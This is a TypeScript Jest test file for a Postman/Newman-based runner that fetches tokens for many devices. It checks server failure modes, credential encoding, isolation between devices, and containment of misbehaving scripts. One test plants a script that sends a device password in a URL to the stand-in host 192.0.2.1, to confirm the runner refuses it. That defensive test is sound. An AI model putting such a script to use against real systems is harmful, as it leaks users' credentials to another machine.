import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Device, DeviceResult, Profile, RunOptions } from 'biotz-postman';
import { biotzProfile, createCollection, runDevices, Secret } from 'biotz-postman';
import { startTokenServer } from './token-server.js';
import type { TokenServer } from './token-server.js';

let server: TokenServer;
beforeAll(async () => {
  server = await startTokenServer();
});
afterAll(() => server.close());

const password = 'pa{{client_id}}ss {{$guid}} &=+%"<é';

function devicesOf(...usernames: string[]): Device[] {
  return usernames.map((username, index) => ({
    deviceId: `id-${index}`,
    name: `device ${index}`,
    username,
    password: new Secret(password),
    line: index + 2,
    otherColumns: {},
  }));
}

const profileOf = (tokenUrl: string): Profile => ({ ...biotzProfile, tokenUrl });

async function runAll(devices: readonly Device[], options: RunOptions = {}): Promise<DeviceResult[]> {
  const results: DeviceResult[] = [];
  for await (const result of runDevices(devices, { profile: profileOf(server.tokenUrl), ...options }))
    results.push(result);
  return results;
}

/** `passed`, or why not. */
const verdicts = (results: readonly DeviceResult[]) =>
  results.map((result) => (result.status === 'passed' ? 'passed' : result.reason));

/** The generated collection with a script of one's own before or after the token request's. */
async function collectionWith(script: string): Promise<object> {
  const collection = await createCollection(profileOf(server.tokenUrl), { switches: 'fixed' });
  const [getToken, ...rest] = structuredClone(collection.item) as unknown as { event: object[] }[];
  if (getToken === undefined) throw new Error('the generated collection has no request');
  getToken.event.push({ listen: 'test', script: { type: 'text/javascript', exec: [script] } });
  return { ...collection, item: [getToken, ...rest] };
}

const onlyToken = { requests: ['Get token'] };

describe('answers of the server', () => {
  const table = [
    ['reset', 'connection-reset'],
    ['halfway', 'connection-reset'],
    ['silent', 'timeout'],
    ['drip', 'timeout'],
    ['big', 'answer-too-large'],
    ['bomb', 'answer-too-large'],
    ['truncated', 'answer-not-json'],
    ['list', 'answer-not-json'],
    ['html', 'answer-not-json'],
    ['wrong', 'invalid-user-credentials'],
    ['disabled', 'account-disabled'],
    ['failing', 'server-error'],
    ['busy', 'rate-limited'],
    ['moved', 'redirected'],
    ['foreign', 'id-token-of-another-user'],
    ['expired', 'id-token-expired'],
    ['noid', 'id-token-missing'],
  ] as const;

  test('each end as one result with its own reason, and the devices around them pass', async () => {
    const usernames = table.flatMap(([behaviour]) => [behaviour, 'ok']);
    const results = await runAll(devicesOf(...usernames), { timeoutRequestMs: 700 });
    expect(verdicts(results)).toEqual(table.flatMap(([, reason]) => [reason, 'passed']));
    expect(results.map(({ line }) => line)).toEqual(usernames.map((_, index) => index + 2));
  });

  test('are never repeated with a secret', async () => {
    const results = await runAll(devicesOf(...table.map(([behaviour]) => behaviour)), {
      timeoutRequestMs: 300,
    });
    expect(JSON.stringify(results)).not.toContain('pa{{');
    expect(JSON.stringify(results)).not.toMatch(/eyJ/);
  });
});

test('credentials arrive byte for byte, even where they look like variables', async () => {
  const own = await startTokenServer();
  try {
    for (const bodyMode of ['formdata', 'urlencoded'] as const) {
      const profile = { ...profileOf(own.tokenUrl), bodyMode };
      expect(verdicts(await runAll(devicesOf('{{client_id}}', 'plain'), { profile }))).toEqual([
        'passed',
        'passed',
      ]);
    }
    const [form, , urlencoded] = own.bodies;
    expect(form).toContain(`name="password"\r\n\r\n${password}\r\n`);
    expect(form).toContain('name="username"\r\n\r\n{{client_id}}\r\n');
    const fields = new URLSearchParams(urlencoded);
    expect(fields.get('password')).toBe(password);
    expect(fields.get('username')).toBe('{{client_id}}');
  } finally {
    await own.close();
  }
});

describe('nothing passes from one device to the next', () => {
  test('neither a token nor a variable of any scope', async () => {
    const collection = await collectionWith(`
      const scopes = ['environment', 'globals', 'collectionVariables', 'variables'];
      for (const scope of scopes) {
        pm.test(scope + ' is clean', () => pm.expect(pm[scope].get('left_behind')).to.be.undefined);
      }
      for (const scope of scopes) pm[scope].set('left_behind', 'by ' + pm.iterationData.get('username'));`);
    expect(verdicts(await runAll(devicesOf('ok1', 'ok2', 'ok3'), { collection, ...onlyToken }))).toEqual([
      'passed',
      'passed',
      'passed',
    ]);
  });

  test('no cookie', async () => {
    const own = await startTokenServer();
    try {
      await runAll(devicesOf('cookie', 'ok'), { profile: profileOf(own.tokenUrl) });
      expect(own.cookies).toEqual([undefined, undefined]);
    } finally {
      await own.close();
    }
  });

  test('no token of an environment file', async () => {
    const values = [
      { key: 'token_url', value: server.tokenUrl },
      { key: 'id_token', value: 'stale' },
    ];
    const collection = {
      info: { name: 'own', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
      item: [
        {
          name: 'look',
          request: { method: 'GET', url: `${server.origin}/` },
          event: [
            {
              listen: 'test',
              script: {
                exec: [`pm.test('no token', () => pm.expect(pm.environment.get('id_token')).to.equal(''))`],
              },
            },
          ],
        },
      ],
    };
    expect(verdicts(await runAll(devicesOf('ok'), { collection, environment: { values } }))).toEqual([
      'passed',
    ]);
  });
});

describe('a script that misbehaves costs the device in flight', () => {
  const forSecond = (code: string) => `if (pm.iterationData.get('username') === 'second') { ${code} }`;
  const table = [
    ['throws', `throw new Error('broken')`, 'script-failed'],
    ['throws in a timer', `setTimeout(() => { throw new Error('late'); }, 1)`, 'script-failed'],
    ['rejects a promise that nobody waits for', `Promise.reject(new Error('unheard'))`, 'worker-died'],
    ['never ends', `for (;;) {}`, 'script-timeout'],
    ['never ends, promise by promise', `(async () => { for (;;) await null; })()`, 'script-timeout'],
    ['waits for ever', `setTimeout(() => undefined, 1e8)`, 'script-timeout'],
    ['sends the same request again and again', `pm.execution.setNextRequest('Get token')`, 'request-loop'],
    ['fails an assertion', `pm.test('own', () => pm.expect(1).to.equal(2))`, 'assertion-failed'],
  ] as const;
  test.each(table)('when it %s', async (_what, code, reason) => {
    const own = await startTokenServer();
    try {
      const collection = await collectionWith(forSecond(code));
      const options = { profile: profileOf(own.tokenUrl), collection, ...onlyToken, timeoutScriptMs: 500 };
      const results = await runAll(devicesOf('first', 'second', 'third', 'fourth'), options);
      expect(verdicts(results)).toEqual(['passed', reason, 'passed', 'passed']);
      // Nobody was sent twice, but by the script that wanted it so.
      const others = own.bodies.filter((body) => !body.includes('\r\n\r\nsecond\r\n'));
      expect(others).toHaveLength(3);
    } finally {
      await own.close();
    }
  });

  test('and no console output of it reaches the process', async () => {
    const collection = await collectionWith(`console.log(pm.iterationData.get('password'))`);
    expect(verdicts(await runAll(devicesOf('ok'), { collection, ...onlyToken }))).toEqual(['passed']);
  });
});

describe('what could go wrong is known before anything is sent', () => {
  test.each([
    ['an address that is none', { profile: profileOf('auth.example.org') }, 'URL_INVALID'],
    [
      'plain http beyond this machine',
      { profile: profileOf('http://auth.example.org/token') },
      'URL_INSECURE',
    ],
    ['an unknown request', { requests: ['Get tokens'] }, 'REQUEST_NOT_FOUND'],
    ['a collection that is none', { collection: {} }, 'COLLECTION_INVALID'],
    ['an environment that is none', { environment: {} }, 'ENVIRONMENT_INVALID'],
  ] as const)('%s', async (_what, options, code) => {
    await expect(runAll(devicesOf('ok'), options as RunOptions)).rejects.toMatchObject({ code });
  });
});

test('a script cannot send a password over plain http to another machine', async () => {
  const collection = await collectionWith(`
    pm.sendRequest('http://192.0.2.1/' + pm.iterationData.get('password'), (error) => {
      pm.test('refused', () => pm.expect(JSON.stringify(error)).to.contain('url-insecure'));
    });`);
  expect(verdicts(await runAll(devicesOf('ok'), { collection, ...onlyToken }))).toEqual(['passed']);
});

test('a refused connection is a result', async () => {
  const [result] = await runAll(devicesOf('ok'), { profile: profileOf('http://127.0.0.1:9/token') });
  expect(result).toMatchObject({ status: 'failed', reason: 'connection-refused' });
});

test('an abort lets the device in flight finish and sends no other', async () => {
  const own = await startTokenServer();
  const controller = new AbortController();
  const results: DeviceResult[] = [];
  try {
    const options = { profile: profileOf(own.tokenUrl), signal: controller.signal };
    for await (const result of runDevices(
      devicesOf(...Array.from({ length: 300 }, (_, i) => `ok${i}`)),
      options,
    )) {
      results.push(result);
      controller.abort();
    }
    expect(results.length).toBeGreaterThan(0);
    expect(results.length).toBeLessThan(300);
    expect(own.bodies).toHaveLength(results.length);
  } finally {
    await own.close();
  }
});

test('more devices than one Newman run takes are all attempted once, in order', async () => {
  const own = await startTokenServer();
  try {
    const count = 520;
    const devices = devicesOf(...Array.from({ length: count }, (_, index) => `ok${index}`));
    const results = await runAll(devices, { profile: profileOf(own.tokenUrl) });
    expect(results.map(({ deviceId }) => deviceId)).toEqual(devices.map(({ deviceId }) => deviceId));
    expect(new Set(verdicts(results))).toEqual(new Set(['passed']));
    expect(own.bodies).toHaveLength(count);
  } finally {
    await own.close();
  }
});
